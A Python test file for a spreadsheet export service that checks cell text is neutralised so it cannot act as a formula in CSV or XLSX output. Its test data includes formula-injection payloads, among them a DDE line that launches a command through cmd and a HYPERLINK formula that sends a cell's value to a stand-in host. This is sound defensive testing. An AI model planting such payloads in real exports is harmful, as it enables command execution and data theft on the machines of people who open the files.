"""What of a directory's text reaches a spreadsheet: never a formula, never a broken file."""

import csv
import re
import resource
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from services.errors import InvalidInput
from services.export import files
from services.export.files import open_sheet
from services.export.spreadsheet import CHARACTERS, fitting, harmless, legal
from services.task import Format

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "“=1+1",
    "\u00a0=1",
    "\u3000＝1",
    "＝cmd|' /C calc'!A0",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "\u22121",
    "⁼1",
    "⁺1",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
)  # fmt: skip

PLAIN = (
    "",
    " ",
    "Eng-Core",
    "a=b",
    "1+1",
    "x@contoso.example",
    "(=1)",
    "…",
    "山田太郎",
    "مرحبا",
    "a;b",
    "$1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_before_everything(text: str) -> None:
    assert harmless(text).startswith("'")
    assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("x;=1+1", "x;'=1+1"),
        ('x; "＝1', "x; \"'＝1"),
        ("x\n=1", "x\n'=1"),
        ("x\t@a", "x\t'@a"),
        ("a;b;-1", "a;b;'-1"),
        ("=a;=b", "'=a;'=b"),
    ],
)
def test_a_spreadsheet_that_divides_elsewhere_finds_no_formula_either(text: str, found: str) -> None:
    assert harmless(text) == found


HOSTILE = (
    *FORMULAS,
    "<r><t>rich</t></r>",
    "<r>&</r>",
    "_x0041_",
    "\x00\x01\x1b[31m",
    "\ud800",
    "\ufffe",
    "\u202etxt.exe",
    "line\nbreak\r\ntab\t",
    " space ",
    "http://x.example/",
    "mailto:a@b.example",
    "123",
    "TRUE",
    'quote " quote',
)


def written(folder: Path, kind: Format, rows: list[list[str]]) -> Path:
    """A finished file of these rows."""
    path = folder / f"file.{kind}"
    sheet = open_sheet(kind, path, "Tab")
    sheet.titles([("Tenant", "=lab")], ["Name", "Other"])
    sheet.add(rows)
    sheet.finish()
    assert path.stat().st_mode & 0o777 == 0o600
    return path


def test_csv_is_what_rfc_4180_says_and_no_cell_is_a_formula(tmp_path: Path) -> None:
    path = written(tmp_path, Format.CSV, [[text, "x"] for text in HOSTILE])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        found = list(csv.reader(file, strict=True))
    assert {len(record) for record in found} == {2}
    assert found[:3] == [["Tenant", "'=lab"], ["", ""], ["Name", "Other"]]
    assert len(found) == 3 + len(HOSTILE)
    for record, text in zip(found[3:], HOSTILE, strict=True):
        assert record[0] == harmless(text).replace("\ud800", "?")
        assert not re.match(r"\s*[=+\-@＝＋－＠]", record[0])


def test_xlsx_holds_texts_and_nothing_else(tmp_path: Path) -> None:
    path = written(tmp_path, Format.XLSX, [[text, "x"] for text in HOSTILE])
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    kinds = set(re.findall(r'<c [^>]*t="(\w+)"', sheet))
    assert kinds == {"inlineStr"}
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert not [name for name in names if "external" in name.lower() or "rels/sheet" in name]
    cells = openpyxl.load_workbook(path).active
    found = [row[0] for row in cells.iter_rows(values_only=True, min_row=4)]
    assert [unescape(cell) for cell in found] == [legal(text) for text in HOSTILE]


def test_a_cell_that_is_too_long_is_cut_and_told(tmp_path: Path) -> None:
    for text in ("x" * (CHARACTERS + 1), "😀" * CHARACTERS):
        cut = fitting(text)
        assert cut.endswith("…")
        assert len(cut.encode("utf-16-le")) // 2 <= CHARACTERS
    assert fitting("x" * CHARACTERS) == "x" * CHARACTERS
    sheet = open_sheet(Format.XLSX, tmp_path / "file.xlsx", "Tab")
    sheet.titles([], ["Name"])
    sheet.add([["x" * (CHARACTERS + 1)], ["fits"]])
    sheet.finish()
    assert sheet.cut == 1


def test_a_sheet_that_is_full_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "ROWS", 5)
    sheet = open_sheet(Format.XLSX, tmp_path / "file.xlsx", "Tab")
    sheet.titles([], ["Name"])
    sheet.add([["a"]] * 3)
    with pytest.raises(InvalidInput, match="export it as CSV"):
        sheet.add([["b"]])
    sheet.abandon()


@contextmanager
def file_size(limit: int) -> Iterator[None]:
    """No file of this process may grow beyond so many bytes."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


@pytest.mark.parametrize("kind", Format)
def test_no_room_is_an_error_and_never_a_short_file(tmp_path: Path, kind: Format) -> None:
    sheet = open_sheet(kind, tmp_path / f"file.{kind}", "Tab")

    def fill() -> None:
        sheet.titles([], ["Name"])
        sheet.add([[f"row {n}"] for n in range(20_000)])
        sheet.finish()

    with file_size(20_000), pytest.raises(OSError, match="large"):
        fill()
    sheet.abandon()


@pytest.mark.parametrize(
    "name", ["a/b\\c:d*e?f[g]", "'quoted'", "History", "", "x" * 99, "\x00", "=1+1", "山田/太郎"]
)
def test_a_sheet_is_called_what_it_may_be_called(tmp_path: Path, name: str) -> None:
    sheet = open_sheet(Format.XLSX, tmp_path / "file.xlsx", name)
    sheet.titles([], ["Name"])
    sheet.finish()
    assert 0 < len(openpyxl.load_workbook(tmp_path / "file.xlsx").active.title) <= 31
